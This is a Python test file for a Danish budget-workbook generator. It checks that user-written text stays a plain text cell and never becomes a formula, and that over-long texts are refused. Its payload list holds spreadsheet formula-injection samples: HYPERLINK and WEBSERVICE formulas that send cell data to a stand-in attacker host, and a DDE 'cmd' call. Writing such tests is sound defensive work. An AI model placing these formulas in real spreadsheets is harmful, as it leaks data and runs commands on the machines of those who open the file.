"""budget.xlsx and hostile author text: every text is a text cell, never a formula, an error value
or a cut-off string — read back with openpyxl and through LibreOffice (CSV and xlsx)."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
import zipfile

import openpyxl
import pytest

from aftaler.findings import ERROR
from aftaler.check.validate import validate_set
from aftaler.load.sets import load_set
from aftaler.project import Project
from aftaler.render.workbook import render_budget_xlsx
from conftest import edit
from libreoffice import convert
from test_excel import LILLE, budget_model

# Shapes that Excel or LibreOffice would run as a formula, a DDE call or an error value.
PAYLOADS = [
    '=HYPERLINK("https://angriber.example/?d="&B5,"Klik her")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+1",
    "@SUM(1+1)",
    '=WEBSERVICE("https://angriber.example/"&A1)',
    "=1+1",
    "#N/A",
    "=",
    "\t=1+1",
]


CSV = "csv:Text - txt - csv (StarCalc):44,34,76"  # comma, double quote, UTF-8
OWN = re.compile(r"=(SUM|IF)\(|=[A-Z]+\d+")  # the sheet's own formulas; no payload has their shape


def all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def hostile_model(payload: str) -> dict:
    """The small set's budget model with the payload in every text the workbook shows."""
    model = copy.deepcopy(budget_model(LILLE))
    model["omraadets_navn"] = model["jnr"] = model["pulje_navn"] = payload
    for group in model["grupper"]:
        group["titel"] = payload  # an area's name, from a repository's own catalogue
        for line in group["linjer"]:
            line["udgiftspost"] = line["kolonne_2"] = payload
    for note in model["noter"]:
        note["tekst"] = payload
    for t in model["udgiftstyper"]:
        t["tekst"] = t["beskrivelse"] = payload
    return model


def formula_cells(wb) -> list[str]:
    return [f"{title}!{cell.coordinate}: {cell.value}" for title, cell in all_cells(wb) if cell.data_type == "f"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_cell_holds_the_text_not_a_formula(payload):
    model = hostile_model(payload)
    xlsx = render_budget_xlsx(model)
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    texts = [cell for _, cell in all_cells(wb) if str(cell.value).startswith(payload) and not OWN.match(str(cell.value))]
    # Area and jnr; every group title, expense item (with its note numbers) and second column
    # (expense type or description), every note and both columns of every expense type.
    lines = sum(len(g["linjer"]) for g in model["grupper"])
    assert len(texts) == 2 + len(model["grupper"]) + 2 * lines + len(model["noter"]) + 2 * len(model["udgiftstyper"])
    assert all(cell.data_type == "s" for cell in texts), [(c.coordinate, c.data_type) for c in texts]
    # The only formulas are the sheet's own sums and checks: none holds author text.
    formulas = formula_cells(wb)
    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "cmd" in f or "WEBSERVICE" in f
                             or f.endswith(": =1+1") or f.endswith(": =")]
    for _, cell in all_cells(wb):
        assert cell.data_type != "e", cell.coordinate
    # A text that starts like a formula is also marked so a retyped or pasted cell stays text.
    if payload[0] in "=+-@\t":
        assert all(cell.quotePrefix for cell in texts)
    # The package holds the text as an inline string, escaped, and no <f> with it.
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "WEBSERVICE" not in sheet.split("<f>", 1)[-1].split("</f>")[0]
    # In a header or footer '&' starts a code ("&B" bold, "&P" the page): the area's name keeps its '&'.
    header = re.search(r"<oddHeader>(.*?)</oddHeader>", sheet).group(1)
    if "&" in payload:
        shown = payload.replace("&", "&&").replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        assert shown in header or shown.replace("&quot;", '"') in header, header


def test_libreoffice_reads_the_texts_as_texts(tmp_path):
    """LibreOffice opens the workbook and writes it as CSV and as xlsx: each payload comes out as
    the same characters (a formula would come out as its result, #NAME? or Err:…)."""
    for i, payload in enumerate(PAYLOADS[:7]):
        source = tmp_path / f"p{i}" / "budget.xlsx"
        source.parent.mkdir()
        source.write_bytes(render_budget_xlsx(hostile_model(payload)))
        rows = list(csv.reader(convert(source, CSV, tmp_path / f"p{i}" / "csv").read_text(encoding="utf-8")
                                .splitlines()))
        cells = [c for row in rows for c in row]
        model = hostile_model(payload)
        lines = sum(len(g["linjer"]) for g in model["grupper"])
        assert len([c for c in cells if c.startswith(payload)]) >= 2 + len(model["grupper"]) + lines, (payload, rows)
        assert not [c for c in cells if c.startswith(("#NAME", "Err:", "#VALUE", "#REF"))], rows
        back = openpyxl.load_workbook(convert(source, "xlsx:Calc MS Excel 2007 XML", tmp_path / f"p{i}" / "x"))
        assert all(cell.data_type == "s" for _, cell in all_cells(back) if cell.value == payload)
        assert not [f for f in formula_cells(back) if "HYPERLINK" in f or "cmd" in f or "WEBSERVICE" in f]


def test_hostile_yaml_builds_to_text_cells(small_set, run, tmp_path):
    """The whole path: the payloads typed in the YAML sources, `aftaler build`, the workbook read back."""
    budget, agreement = small_set / "budget.yaml", small_set / "samarbejdsaftale.yaml"
    placed = {
        "udgiftspost": PAYLOADS[0], "note": PAYLOADS[1], "jnr": PAYLOADS[2],
        "post2": PAYLOADS[3], "navn": PAYLOADS[5], "beskrivelse": PAYLOADS[4],
    }
    q = json.dumps  # a JSON string is a YAML double-quoted scalar
    edit(budget, "udgiftspost: Revision", f"udgiftspost: {q(placed['udgiftspost'])}\n        beskrivelse: "
                                          f"{q(placed['beskrivelse'])}")
    edit(budget, "udgiftspost: Boligsocial medarbejder 1", f"udgiftspost: {q(placed['post2'])}")
    edit(budget, "tekst: Løn efter overenskomst.", f"tekst: {q(placed['note'])}")
    edit(budget, 'jnr: "100001"', f"jnr: {q(placed['jnr'])}")
    name = next(line for line in agreement.read_text(encoding="utf-8").splitlines() if line.startswith("omraadets_navn:"))
    edit(agreement, name, f"omraadets_navn: {q(placed['navn'])}")
    out = tmp_path / "ud"
    code, stdout, stderr = run("build", small_set, "-o", out)
    assert code == 0, stdout + stderr
    xlsx = out / small_set.name / "budget.xlsx"  # (the site has a copy to download too)
    wb = openpyxl.load_workbook(xlsx)
    values = {cell.value: cell for _, cell in all_cells(wb) if isinstance(cell.value, str)}
    for field, payload in placed.items():
        found = [c for v, c in values.items() if payload in v]
        assert found, (field, payload)
        assert all(c.data_type == "s" for c in found), field
    assert not [f for f in formula_cells(wb) if "HYPERLINK" in f or "cmd" in f or "WEBSERVICE" in f]


def validate_errors(folder):
    aset, problems = load_set(folder)
    return [f for f in problems + validate_set(aset, Project()) if f.severity == ERROR]


@pytest.mark.parametrize("field, old, new, limit", [
    ("note", "tekst: Løn efter overenskomst.", "tekst: {text}", 32767),
    ("udgiftspost", "udgiftspost: Revision", "udgiftspost: {text}", 32000),
    ("beskrivelse", "udgiftspost: Revision", "udgiftspost: Revision\n        beskrivelse: {text}", 32000),
])
def test_a_text_longer_than_a_cell_is_refused_with_its_position(small_set, field, old, new, limit):
    budget = small_set / "budget.yaml"
    edit(budget, old, new.format(text="a" * limit))  # at the limit: accepted
    assert not validate_errors(small_set)
    edit(budget, "a" * limit, "b" * (limit + 1))
    (finding,) = validate_errors(small_set)
    assert finding.position.path.endswith("budget.yaml")
    line = next(n for n, text in enumerate(budget.read_text(encoding="utf-8").splitlines(), 1) if "bbbb" in text)
    assert finding.position.line == line
    assert f"{limit + 1:,}".replace(",", ".") in finding.message and "budget.xlsx" in finding.message


def test_a_staff_note_longer_than_a_cell_is_refused_at_the_budget_line(small_set, run, tmp_path):
    """The note on a staff member's line is made of the title and the names of the activities the
    time is shared between (other documents): too long for a cell, validate refuses it at the
    line's `medarbejder` (build used to fail with an internal error, exit 3, writing the workbook)."""
    delaftale = small_set / "delaftale-beskaeftigelse.yaml"
    edit(delaftale, "    navn: Jobcafé", '    navn: "' + "x" * 32_768 + '"')
    (finding,) = validate_errors(small_set)
    assert finding.position.path.endswith("budget.yaml")
    budget = (small_set / "budget.yaml").read_text(encoding="utf-8").splitlines()
    line = next(n for n, text in enumerate(budget, 1) if "medarbejder: medarbejder-1" in text)
    assert finding.position.line == line
    assert finding.message.startswith("noten om tidsfordelingen for medarbejderen 'medarbejder-1' er 32.")
    assert "aktiviteternes navne" in finding.message
    code, _, err = run("build", small_set, "-o", tmp_path / "ud")
    assert code == 1 and "intern fejl" not in err, err
    assert not (tmp_path / "ud").exists()
    # a name that leaves the note within a cell still builds
    edit(delaftale, "x" * 32_768, "x" * 32_000)
    assert not validate_errors(small_set)


def test_a_text_over_the_limit_that_reached_the_writer_is_a_bug_not_a_cut():
    model = hostile_model("x")
    model["noter"][0]["tekst"] = "x" * 32768
    with pytest.raises(ValueError):
        render_budget_xlsx(model)
